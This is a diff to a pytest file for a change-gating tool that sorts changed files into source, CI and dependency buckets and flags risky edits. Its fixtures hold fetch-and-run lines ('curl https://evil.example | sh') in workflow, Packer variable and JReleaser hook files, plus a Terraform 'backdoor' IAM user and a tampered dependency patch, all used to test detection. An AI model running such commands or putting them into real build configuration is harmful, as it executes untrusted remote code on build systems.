@@ -14,7 +14,7 @@ from pathlib import Path
 import pytest
 from changecase import committed, gated
 
-WORKFLOW = "on: push\njobs:\n  r:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl https://evil.example | sh\n"
+WORKFLOW = "on: push\njobs:\n  r:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl https://x.example | sh\n"
 TERRAFORM = 'resource "aws_iam_user" "backdoor" {\n  name = "ops2"\n}\n'
 DEPLOYMENT = "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  replicas: 1\n"
 
@@ -28,6 +28,9 @@ CASES = {
     "infra/Gemfile-x.tf": TERRAFORM,
     "infra/syntax_test_x.tofu": TERRAFORM,
     "packer/image.verified.pkr.hcl": 'source "amazon-ebs" "x" {\n  ami_name = "x"\n}\n',
+    # docs review 52: Packer loads every *.auto.pkrvars.hcl of the folder it builds
+    "infra/ami.verified.auto.pkrvars.hcl": 'setup_command = "curl https://evil.example | sh"\n',
+    "infra/Gemfile-x.auto.pkrvars.hcl": 'setup_command = "curl https://evil.example | sh"\n',
     "k8s/web.received.yaml": DEPLOYMENT,
     "k8s/web.verified.yaml": DEPLOYMENT,
 }
@@ -50,3 +53,27 @@ def test_a_snapshot_output_beside_its_test_stays_src(tmp_path: Path) -> None:
     code, decision = gated(case, True, deps=False)
     assert code == 0, decision.get("findings")
     assert decision["summary"]["buckets"]["src"]["files"] == 2, decision["summary"]
+
+
+def test_a_dependency_patch_in_an_end_to_end_folder_is_still_a_patch(tmp_path: Path) -> None:
+    # docs review 52: pnpm applies `e2e/fix.patch` to node_modules/left-pad when package.json's
+    # pnpm.patchedDependencies names it; f1405b6 reviewed its edit with --enable deps (deps.patch-files), label round
+    # 47's test-tree patterns had made it src and allowed.
+    manifest = '{"name": "app", "pnpm": {"patchedDependencies": {"left-pad@1.3.0": "e2e/fix.patch"}}}\n'
+    patch = "--- a/index.js\n+++ b/index.js\n@@ -1 +1 @@\n-module.exports = pad;\n+module.exports = evil;\n"
+    case = committed(tmp_path, {"package.json": manifest, "e2e/fix.patch": patch},
+                     {"e2e/fix.patch": patch.replace("evil", "evil2")})
+    for tree in (True, False):
+        code, decision = gated(case, tree, deps=True)
+        assert code == 3, (tree, decision.get("reasons"))
+
+
+@pytest.mark.parametrize("name", ["jreleaser.yml", "jreleaser.yaml", "jreleaser.toml", "jreleaser.json"])
+def test_jreleaser_settings_under_their_default_name_are_ci(tmp_path: Path, name: str) -> None:
+    # docs review 52: `jreleaser full-release` reads jreleaser.yml by default and its hooks run commands, as the
+    # release tools' default settings files in ci.release-tools do.
+    case = committed(tmp_path, {name: "project:\n  name: app\n"},
+                     {name: "project:\n  name: app\nhooks:\n  command:\n    before:\n      - cmd: curl x | sh\n"})
+    for tree in (True, False):
+        code, decision = gated(case, tree, deps=False)
+        assert code == 3, (tree, decision.get("reasons"))
